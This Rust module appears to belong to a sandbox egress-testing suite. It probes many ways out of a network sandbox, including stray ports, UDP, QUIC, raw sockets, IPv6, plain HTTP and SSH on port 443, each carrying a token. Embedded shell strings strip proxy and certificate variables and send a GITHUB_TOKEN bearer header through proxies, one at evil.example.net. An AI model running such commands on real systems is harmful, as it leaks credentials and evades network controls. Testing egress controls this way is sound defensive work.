//! Ways out beside TLS to the gateway: other ports, other protocols, other sockets.

use std::io::{Read, Write};
use std::net::{Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};

use nix::sys::socket::{AddressFamily, SockFlag, SockProtocol, SockType, socket};

use super::Channel::WaysOut;
use super::Control::{Absent, Reaches};
use super::To::Bound;
use super::{Attempt, REACHED, asks, dials, does, web};
use crate::answer::{Fault, Reply};
use crate::probe::{Knowledge, PATIENCE};
use crate::whole::Asked;

pub(super) const ATTEMPTS: &[Attempt] = &[
    dials("every common port of the internet", WaysOut, 20, Absent, other_ports).may_be_closed(),
    does("every common port of the machine", WaysOut, 20, Reaches, loopback_ports),
    does("UDP to anywhere", WaysOut, 20, Absent, udp),
    dials("QUIC to the bound host", WaysOut, 20, Absent, quic).may_be_closed(),
    does("ICMP", WaysOut, 20, Absent, icmp),
    does("raw sockets", WaysOut, 20, Absent, raw),
    does("packet sockets", WaysOut, 20, Absent, packet),
    does("SCTP, DCCP and UDP-Lite", WaysOut, 20, Absent, other_transports),
    does("VM, Bluetooth, CAN and other families", WaysOut, 20, Absent, other_families),
    does("netlink's other protocols", WaysOut, 20, Reaches, netlink),
    dials("IPv6 by address", WaysOut, 20, Absent, ipv6).may_be_closed(),
    does("multicast and broadcast", WaysOut, 20, Absent, multicast),
    does("a listener that others could reach", WaysOut, 20, Absent, listener),
    dials("plain HTTP to the bound host's port 80", WaysOut, 20, Absent, plain_http),
    dials("plain HTTP spoken on port 443", WaysOut, 19, Absent, plain_on_tls_port).may_be_closed(),
    dials("SSH spoken on port 443", WaysOut, 20, Absent, ssh).may_be_closed(),
    dials("an unknown protocol on port 443", WaysOut, 19, Absent, unknown_protocol).may_be_closed(),
    dials("TLS without a server name", WaysOut, 9, Absent, no_server_name).may_be_closed(),
    web(
        "unset every proxy and certificate variable",
        WaysOut,
        20,
        Absent,
        &["curl"],
        "unset https_proxy HTTPS_PROXY http_proxy ALL_PROXY SSL_CERT_FILE CURL_CA_BUNDLE; $C -k \"$FAR/echo\" -H \"Authorization: Bearer $GITHUB_TOKEN\" -H \"$NAMED\"",
    ),
    web(
        "a proxy of its own",
        WaysOut,
        20,
        Absent,
        &["curl"],
        "for p in http://192.0.2.9:3128 socks5h://192.0.2.9:1080 https://evil.example.net:443; do $C -x $p \"$BASE/echo\" -H \"Authorization: Bearer $GITHUB_TOKEN\"; done",
    )
    .may_be_closed(),
    asks(
        "Alt-Svc offered by the bound host",
        WaysOut,
        20,
        Absent,
        Bound,
        "GET /say/altsvc/raw HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
    ),
];

fn other_ports(knowledge: &Knowledge) -> Vec<Reply> {
    let Some(host) = knowledge.find(&knowledge.unbound) else { return vec![Reply::unable("the name was not resolved")] };
    PORTS.iter().map(|port| Reply::of(Ok(say(SocketAddr::new(host.ip(), *port), knowledge)))).collect()
}

fn loopback_ports(knowledge: &Knowledge) -> Vec<u8> {
    let mut out: Vec<u8> = PORTS.iter().flat_map(|port| say(SocketAddr::from(([127, 0, 0, 1], *port)), knowledge)).collect();
    if knowledge.api.is_some_and(|api| TcpStream::connect_timeout(&api, PATIENCE / 10).is_ok()) {
        out.extend_from_slice(format!("\n{REACHED}\n").as_bytes());
    }
    out
}

fn say(to: SocketAddr, knowledge: &Knowledge) -> Vec<u8> {
    let mut out = format!("{to}: ").into_bytes();
    match TcpStream::connect_timeout(&to, PATIENCE / 10) {
        Ok(mut stream) => {
            let _ = stream.set_read_timeout(Some(PATIENCE / 10));
            let said = stream.write_all(format!("{}\r\n\r\n", knowledge.token()).as_bytes());
            let _ = said.and_then(|()| stream.take(SAID_BYTES_MAX).read_to_end(&mut out));
        }
        Err(error) => out.extend_from_slice(error.to_string().as_bytes()),
    }
    out
}

fn udp(knowledge: &Knowledge) -> Vec<u8> {
    [([192, 0, 2, 1], 123), ([192, 0, 2, 1], 514), ([192, 0, 2, 1], 4444), ([198, 18, 0, 1], 69)]
        .into_iter()
        .flat_map(|to| datagram(SocketAddr::from(to), knowledge.token().as_bytes()))
        .collect()
}

/// An Initial packet's beginning (RFC 9000, section 17.2.2). Nobody has to answer a datagram: what counts is that it arrives nowhere.
fn quic(knowledge: &Knowledge) -> Vec<Reply> {
    let mut packet = b"\xc0\x00\x00\x00\x01\x08\x01\x02\x03\x04\x05\x06\x07\x08\x00\x00\x44\x9e".to_vec();
    packet.extend_from_slice(knowledge.token().as_bytes());
    packet.resize(1200, 0);
    let found = knowledge.find(&knowledge.bound);
    vec![found.map_or_else(|| Reply::unable("the name was not resolved"), |to| Reply::of(Ok(datagram(to, &packet))))]
}

fn datagram(to: SocketAddr, bytes: &[u8]) -> Vec<u8> {
    let said = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
        socket.set_read_timeout(Some(PATIENCE / 10))?;
        socket.send_to(bytes, to)?;
        let mut answer = [0; 2048];
        let (length, _) = socket.recv_from(&mut answer)?;
        Ok(answer[..length].to_vec())
    });
    said.unwrap_or_else(|error| error.to_string().into_bytes())
}

fn icmp(_: &Knowledge) -> Vec<u8> {
    opened(AddressFamily::Inet, SockType::Datagram, Some(SockProtocol::Icmp))
}

fn raw(_: &Knowledge) -> Vec<u8> {
    [AddressFamily::Inet, AddressFamily::Inet6]
        .into_iter()
        .flat_map(|family| opened(family, SockType::Raw, Some(SockProtocol::Raw)))
        .collect()
}

fn packet(_: &Knowledge) -> Vec<u8> {
    [SockType::Raw, SockType::Datagram]
        .into_iter()
        .flat_map(|kind| opened(AddressFamily::Packet, kind, Some(SockProtocol::EthAll)))
        .collect()
}

fn other_transports(_: &Knowledge) -> Vec<u8> {
    [SockType::SeqPacket, SockType::Rdm].into_iter().flat_map(|kind| opened(AddressFamily::Inet, kind, None)).collect()
}

fn other_families(_: &Knowledge) -> Vec<u8> {
    [AddressFamily::Vsock, AddressFamily::Bluetooth, AddressFamily::Can, AddressFamily::Alg, AddressFamily::Tipc, AddressFamily::X25]
        .into_iter()
        .flat_map(|family| opened(family, SockType::Stream, None))
        .collect()
}

fn netlink(_: &Knowledge) -> Vec<u8> {
    [SockProtocol::NetlinkAudit, SockProtocol::NetlinkKObjectUEvent, SockProtocol::NetlinkSockDiag, SockProtocol::NetlinkNetFilter]
        .into_iter()
        .flat_map(|protocol| opened(AddressFamily::Netlink, SockType::Raw, Some(protocol)))
        .collect()
}

fn opened(family: AddressFamily, kind: SockType, protocol: Option<SockProtocol>) -> Vec<u8> {
    match socket(family, kind, SockFlag::SOCK_CLOEXEC, protocol) {
        Ok(_) => format!("\n{REACHED}\n").into_bytes(),
        Err(errno) => format!("{}\n", errno.desc()).into_bytes(),
    }
}

fn ipv6(knowledge: &Knowledge) -> Vec<Reply> {
    let request = knowledge.fill(
        "IPv6 by address",
        &knowledge.bound,
        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
    );
    ["2001:4860:4860::8888", "fd00::1", "::1", "fe80::1"]
        .into_iter()
        .filter_map(|address| address.parse::<Ipv6Addr>().ok())
        .map(|address| knowledge.ask_at(SocketAddr::from((address, 443)), &knowledge.bound, &request))
        .collect()
}

fn multicast(knowledge: &Knowledge) -> Vec<u8> {
    let said = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
        socket.set_broadcast(true)?;
        let token = knowledge.token();
        for to in ["255.255.255.255:67", "224.0.0.251:5353", "239.255.255.250:1900"] {
            socket.send_to(token.as_bytes(), to)?;
        }
        Ok(b"sent".to_vec())
    });
    said.unwrap_or_else(|error| error.to_string().into_bytes())
}

fn listener(knowledge: &Knowledge) -> Vec<u8> {
    let listened = TcpListener::bind("0.0.0.0:0").and_then(|listener| {
        listener.set_nonblocking(true)?;
        let port = listener.local_addr()?.port();
        let own = say(SocketAddr::from(([198, 18, 0, 1], port)), knowledge);
        Ok(own)
    });
    listened.unwrap_or_else(|error| error.to_string().into_bytes())
}

fn plain_http(knowledge: &Knowledge) -> Vec<Reply> {
    plainly(knowledge, &knowledge.bound, 80, "GET /echo HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {T}\r\nConnection: close\r\n\r\n")
}

fn plain_on_tls_port(knowledge: &Knowledge) -> Vec<Reply> {
    plainly(knowledge, &knowledge.unbound, 443, "GET /echo HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {T}\r\nConnection: close\r\n\r\n")
}

fn ssh(knowledge: &Knowledge) -> Vec<Reply> {
    plainly(knowledge, "github.com", 443, "SSH-2.0-OpenSSH_9.9 {T}\r\n")
}

fn unknown_protocol(knowledge: &Knowledge) -> Vec<Reply> {
    plainly(knowledge, &knowledge.bound, 443, "\u{0}\u{1}\u{2}{T}\u{0}")
}

fn plainly(knowledge: &Knowledge, host: &str, port: u16, request: &str) -> Vec<Reply> {
    let Some(mut to) = knowledge.find(host) else { return vec![Reply::unable("the name was not resolved")] };
    to.set_port(port);
    let mut bytes = Vec::new();
    let said = TcpStream::connect_timeout(&to, PATIENCE).and_then(|mut stream| {
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(&knowledge.fill("plainly", host, request))?;
        stream.take(SAID_BYTES_MAX).read_to_end(&mut bytes)
    });
    vec![Reply { bytes, fault: said.err().map(|error| Fault::of(&error)), asked: Asked::of(request.as_bytes()) }]
}

/// An address as TLS name puts no server name into the hello (RFC 6066, section 3).
fn no_server_name(knowledge: &Knowledge) -> Vec<Reply> {
    let request = knowledge.fill(
        "TLS without a server name",
        &knowledge.bound,
        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
    );
    let found = knowledge.find(&knowledge.bound);
    vec![found.map_or_else(|| Reply::unable("the name was not resolved"), |to| knowledge.ask_at(to, &to.ip().to_string(), &request))]
}

const PORTS: &[u16] = &[
    21, 22, 23, 25, 53, 110, 143, 389, 465, 587, 636, 853, 993, 1080, 2375, 3128, 3306, 4444, 5432, 6379, 7080, 7081, 8080, 8443, 9090,
    9418, 11211, 27017,
];
const SAID_BYTES_MAX: u64 = 1 << 16;
